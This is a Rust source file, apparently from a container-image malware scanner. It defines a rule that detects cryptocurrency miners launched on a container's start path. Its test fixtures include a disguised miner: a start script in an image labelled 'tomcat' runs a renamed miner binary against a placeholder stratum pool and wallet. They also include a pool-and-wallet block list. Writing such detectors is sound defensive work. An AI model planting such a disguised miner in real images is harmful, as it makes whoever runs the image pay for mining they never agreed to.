use lazaret_model::{
    BehaviourKind, Class, Confidence, EntryPath, Evidence, FactKind, Finding, Indicator, IndicatorKind, Location, Reach, Rule,
    Severity,
};

use super::Check;
use crate::Case;
use crate::case::{Seen, is_about_mining};
use crate::claims::is_miner_name;

/// A miner that starts with the container, known by what it needs and not by its name: an
/// address to pay to, a pool to work for, a program or a configuration that mines.
pub(super) struct MinerOnStartPath;

impl Check for MinerOnStartPath {
    fn rule(&self) -> Rule {
        Rule {
            id: "impact/miner-on-start-path".into(),
            title: "mine cryptocurrency for somebody else as soon as it starts".into(),
            explanation: "What this image starts has what mining needs: a wallet address whose checksum is right, \
                a pool, a program or a configuration that mines. Whoever runs it pays for the computing, and the \
                owner of the wallet is paid. Do not run it; on a host where it ran, look for scheduled tasks and \
                keys that it may have left behind."
                .into(),
            class: Class::Malware,
            severity: Severity::Critical,
            confidence: Confidence::High,
            attack: vec!["T1496.001".into(), "T1204.003".into()],
            references: vec![
                "https://attack.mitre.org/techniques/T1496/001/".into(),
                "https://unit42.paloaltonetworks.jp/cryptojacking-docker-images-for-mining-monero".into(),
            ],
        }
    }

    fn fires(&self) -> &'static [&'static str] {
        &["LABEL org.opencontainers.image.title=tomcat\n\
           FILE /usr/local/bin/start.sh 0755\n    #!/bin/sh\n    /usr/sbin/httpd-worker -o \
           stratum+tcp://pool.example.invalid:3333 -u \
           45pcgDPVx93YePVNh7QbYFRY6V8L26qKk3E86fi9DNYH3vY1WhycjSW3epTDMqpGasZVexrg1HdANLK2LMtTs6JqMtN18WK -p x &\n    \
           exec catalina.sh run\n\
           ELF /usr/sbin/httpd-worker 0755\n    httpd\n\
           ENTRYPOINT [\"/usr/local/bin/start.sh\"]"]
    }

    fn quiet(&self) -> &'static [&'static str] {
        &[
            // A block list names pools and wallets and starts nothing of it.
            "FILE /etc/blocklist/pools.txt 0644\n    stratum+tcp://pool.example.invalid:3333\n    \
             45pcgDPVx93YePVNh7QbYFRY6V8L26qKk3E86fi9DNYH3vY1WhycjSW3epTDMqpGasZVexrg1HdANLK2LMtTs6JqMtN18WK\n\
             ELF /usr/sbin/filterd 0755\n    filterd\n\
             ENTRYPOINT [\"/usr/sbin/filterd\"]",
            // A wallet in the environment of a shop that takes payments.
            "ENV DONATE=45pcgDPVx93YePVNh7QbYFRY6V8L26qKk3E86fi9DNYH3vY1WhycjSW3epTDMqpGasZVexrg1HdANLK2LMtTs6JqMtN18WK\n\
             ELF /usr/bin/shop 0755\n    shop\n\
             ENTRYPOINT [\"/usr/bin/shop\"]",
        ]
    }

    fn look(&self, case: &Case<'_>, earlier: &[Finding]) -> Vec<Finding> {
        let signs = Signs::of(case, earlier);
        let rule = self.rule();
        let Some((message, first)) = signs.conclusion(case) else { return Vec::new() };
        let mut finding = Finding::of(&rule, message, first.clone())
            .reach(signs.reach)
            .refuted_by("the image openly says that it mines, and for whom, to those who run it");
        for evidence in signs.evidence.iter().filter(|e| **e != first).take(8) {
            finding = finding.and(evidence.clone());
        }
        for seen in signs.wallets.iter().chain(&signs.pools) {
            finding = finding.indicator(seen.indicator.clone());
        }
        if signs.open(case) {
            finding = finding.class(Class::DualUse).severity(Severity::Medium);
        }
        vec![finding.build()]
    }
}

/// What speaks for mining on the start path.
struct Signs {
    wallets: Vec<Seen>,
    pools: Vec<Seen>,
    /// Programs and configurations that mine, and command lines with a miner's options.
    evidence: Vec<Evidence>,
    /// Whether a rule is sure of a program or a command line that mines.
    mines: bool,
    /// Whether a miner's configuration is read.
    configured: bool,
    /// Names of the programs that carry a miner's marks.
    programs: Vec<String>,
    reach: Reach,
}

impl Signs {
    fn of(case: &Case<'_>, earlier: &[Finding]) -> Self {
        let acts = |location: &Location, reach: Reach| match location {
            Location::File { layer, path, .. } => acts_with(case, *layer, path).max(reach),
            _ => reach,
        };
        let active = |kind: IndicatorKind| -> Vec<Seen> {
            case.indicators(|one| one == kind)
                .into_iter()
                .map(|seen| Seen { reach: acts(&seen.location, seen.reach), ..seen })
                .filter(|seen| seen.reach >= Reach::Reachable)
                .collect()
        };
        let wallets = active(IndicatorKind::Wallet);
        let pools = active(IndicatorKind::Pool);
        let mut evidence = Vec::new();
        let mut programs = Vec::new();
        let mut mines = false;
        let mut configured = false;
        let mut reach = Reach::Removed;

        // What only prepares for mining (huge pages, registers) and what only keeps a machine busy has
        // honest users too: such rules are unsure, or tell a mere fact.
        let sure = |f: &&Finding| {
            is_about_mining(&f.rule) && f.confidence == Confidence::High && f.severity >= Severity::Medium
        };
        for finding in earlier.iter().filter(sure) {
            let at = finding.location();
            let acting = acts(at, finding.reach);
            if acting >= Reach::Reachable {
                mines = true;
                reach = reach.max(acting);
                evidence.extend(finding.evidence().iter().cloned());
                programs.extend(at.path().map(|p| String::from_utf8_lossy(p.file_name()).into_owned()));
            }
        }
        for (layer, fact) in case.facts() {
            if let FactKind::MinerConfig { keys } = &fact.kind {
                let acting = acts_with(case, layer, &fact.path);
                if acting >= Reach::Reachable {
                    configured = true;
                    reach = reach.max(acting);
                    let what = format!("a miner's configuration ({})", keys.join(", "));
                    evidence.push(case.evidence(layer, fact, what));
                }
            }
        }
        for (seen, what) in wallets
            .iter()
            .map(|seen| (seen, "a wallet address whose checksum is right"))
            .chain(pools.iter().map(|seen| (seen, "a mining pool")))
        {
            reach = reach.max(seen.reach);
            let told = Evidence::at(seen.location.clone(), what).quoting(seen.excerpt.clone());
            let sha256 = match &seen.location {
                Location::File { layer, path, .. } => case.file_hash(*layer, path),
                _ => None,
            };
            evidence.push(Evidence { sha256, ..told });
        }
        for behaviour in &case.start.behaviours {
            if let BehaviourKind::Process { argv, .. } = &behaviour.kind
                && Case::phase_reach(behaviour.phase) >= Reach::Reachable
                && argv.iter().any(|a| wallets.iter().chain(&pools).any(|s| a.contains(bare(&s.indicator.value))))
            {
                evidence.insert(0, case.behaviour_evidence(behaviour));
                programs.extend(argv.first().map(|p| p.rsplit('/').next().unwrap_or(p).to_owned()));
            }
        }
        let mut pools = pools;
        if pools.is_empty() && !wallets.is_empty() {
            pools.extend(worked_for(case, &wallets));
        }
        Self { wallets, pools, evidence, mines, configured, programs, reach }
    }

    /// The sentence and the evidence that stands first, or nothing.
    fn conclusion(&self, case: &Case<'_>) -> Option<(String, Evidence)> {
        let wallet = self.wallets.first().map(|seen| seen.indicator.value.as_str());
        let pool = self.pools.first().map(|seen| seen.indicator.value.as_str());
        let when = if self.reach == Reach::Starts { "as soon as it starts" } else { "once it runs" };
        // Only a scheme of its own tells a mining pool from a pool of databases.
        let stratum = pool.is_some_and(|pool| pool.contains("://"));
        let message = match (wallet, pool) {
            (Some(wallet), Some(pool)) => format!("it mines {when}, for wallet {wallet} at {pool}"),
            (Some(wallet), None) if self.mines || self.configured => {
                format!("it starts a miner {when}, for wallet {wallet}")
            }
            (None, Some(pool)) if self.mines || (self.configured && stratum) => {
                format!("it starts a miner {when}, at {pool}")
            }
            // A miner without a place to go: whoever runs it must give one, or it hides it.
            (None, None) if self.mines && !self.named_openly() => {
                format!("it starts a miner {when} under another name")
            }
            _ => return None,
        };
        let message = match case.image.config.labels.iter().find(|(name, _)| name.ends_with("title")) {
            Some((_, title)) if !case.claims.mines() => format!("{message}, though it calls itself {title}"),
            _ => message,
        };
        self.evidence.first().map(|first| (message, first.clone()))
    }

    fn named_openly(&self) -> bool {
        !self.programs.is_empty() && self.programs.iter().all(|name| is_miner_name(name))
    }

    /// Whether it deceives nobody: it says what it is, or it is an openly named program that
    /// whoever runs it has to give a wallet to.
    fn open(&self, case: &Case<'_>) -> bool {
        case.claims.mines() || (self.wallets.is_empty() && self.named_openly())
    }
}

/// Options with which miners are told where to work.
const PLACES: &[&str] = &[
    "-o", "-r", "-P", "-h", "-a", "--url", "--pool", "--host", "--server", "--daemon-rpc-address", "--daemon-address",
    "--stratum", "--node", "-S", "--proxy",
];

/// Options that name the place in two words: `-s name.domain -p port`.
const HOSTS: &[&str] = &["-s", "--server", "--host", "--pool", "--address", "--url"];
const PORTS: &[&str] = &["-p", "-P", "--port"];

/// A host and a port that stand behind options of their own.
fn in_two_words(argv: &[String]) -> Option<String> {
    let after = |options: &[&str]| {
        let at = argv.iter().position(|a| options.contains(&a.as_str()))?;
        argv.get(at + 1)
    };
    let place = format!("{}:{}", after(HOSTS)?, after(PORTS)?);
    is_endpoint(&place).then_some(place)
}

/// Places given to the very process that is also given a wallet: `-w WALLET -r host:port`. A wallet
/// and an endpoint in two different processes say nothing about each other.
fn worked_for(case: &Case<'_>, wallets: &[Seen]) -> Vec<Seen> {
    let mut places = Vec::new();
    for (behaviour, argv) in case.processes() {
        if !argv.iter().any(|a| wallets.iter().any(|w| a.contains(bare(&w.indicator.value)))) {
            continue;
        }
        for (at, argument) in argv.iter().enumerate().skip(1) {
            let (option, value) = match argument.split_once('=') {
                Some((option, value)) => (option, value),
                None => (argv[at - 1].as_str(), argument.as_str()),
            };
            if !PLACES.contains(&option) || !is_endpoint(value) {
                continue;
            }
            places.push(Seen {
                indicator: Indicator::new(IndicatorKind::Pool, value),
                location: behaviour.because.first().cloned().unwrap_or(Location::Image),
                reach: Case::phase_reach(behaviour.phase),
                excerpt: argv.join(" "),
            });
        }
        if let Some(place) = in_two_words(argv) {
            places.push(Seen {
                indicator: Indicator::new(IndicatorKind::Pool, &place),
                location: behaviour.because.first().cloned().unwrap_or(Location::Image),
                reach: Case::phase_reach(behaviour.phase),
                excerpt: argv.join(" "),
            });
        }
    }
    places
}

/// `[scheme://]name.domain:port`.
fn is_endpoint(text: &str) -> bool {
    let rest = text.split_once("://").map_or(text, |(_, rest)| rest);
    let Some((host, port)) = rest.trim_end_matches('/').rsplit_once(':') else { return false };
    host.contains('.')
        && host.bytes().all(|b| b.is_ascii_alphanumeric() || b".-_".contains(&b))
        && port.parse::<u16>().is_ok()
}

/// Whether a file can act: itself, or as configuration beside a program that does.
fn acts_with(case: &Case<'_>, layer: usize, path: &EntryPath) -> Reach {
    let own = case.reach(layer, path);
    if own != Reach::Dormant {
        return own;
    }
    let is_config = case.facts_of(layer, path).iter().any(|f| matches!(f.kind, FactKind::MinerConfig { .. }));
    if !is_config {
        return own;
    }
    // A miner reads `config.json` beside itself when it is not told another.
    let beside = case
        .start
        .files
        .iter()
        .filter(|((_, started), _)| started.parent() == path.parent())
        .map(|(_, file)| file.reach)
        .max();
    beside.map_or(own, |reach| reach.min(Reach::Starts))
}

/// A normal form without the currency prefix, as it stands in a command line.
fn bare(value: &str) -> &str {
    match value.split_once(':') {
        Some((currency, rest)) if !rest.starts_with("//") => {
            if currency.len() <= 5 { rest } else { value }
        }
        _ => value,
    }
}
